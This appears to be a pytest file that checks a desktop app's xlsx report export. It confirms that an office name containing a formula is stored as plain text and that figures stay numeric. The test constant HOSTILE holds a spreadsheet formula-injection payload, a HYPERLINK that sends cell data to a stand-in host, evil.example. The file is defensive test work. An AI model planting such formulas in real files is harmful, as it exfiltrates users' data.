"""Text that reached the database from another office (an office's name, a district typed
outside the reference list, a person's name) never becomes a live formula in a file a
user opens in Excel or LibreOffice; figures stay figures."""
from __future__ import annotations

import zipfile

import openpyxl

from desktop_app.cli import main as hamroh
from desktop_app.store.offices import OfficeRepository

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def _formula_cells(path) -> list[str]:
    """<f> elements (formulas) anywhere in the workbook's sheets."""
    with zipfile.ZipFile(path) as book:
        return [name for name in book.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


def test_report_xlsx_summary_writes_an_office_name_as_text(session, world, db_path, tmp_path):
    office = session.conn.execute("SELECT o.id FROM office o JOIN meta m ON m.key='office_id' "
                                  "AND m.value=o.id").fetchone()[0]
    OfficeRepository(session).update(office, {"name": HOSTILE})
    out = tmp_path / "q1.xlsx"
    assert hamroh(["report", "--db", str(db_path), "--period", "2026-Q1", "--format", "xlsx",
                   "--office", "GRM", "--out", str(out)]) == 0
    assert _formula_cells(out) == []
    book = openpyxl.load_workbook(out)
    summary = [r for r in book.worksheets[0].iter_rows(values_only=True)]
    scope = [r[1] for r in summary if r[0] == "Scope"][0]
    assert scope.startswith(HOSTILE)          # shown as typed, as text
    people = book["People"]
    counts = [r[7] for r in people.iter_rows(min_row=2, values_only=True)]
    assert 3 in counts                        # figures are still numbers
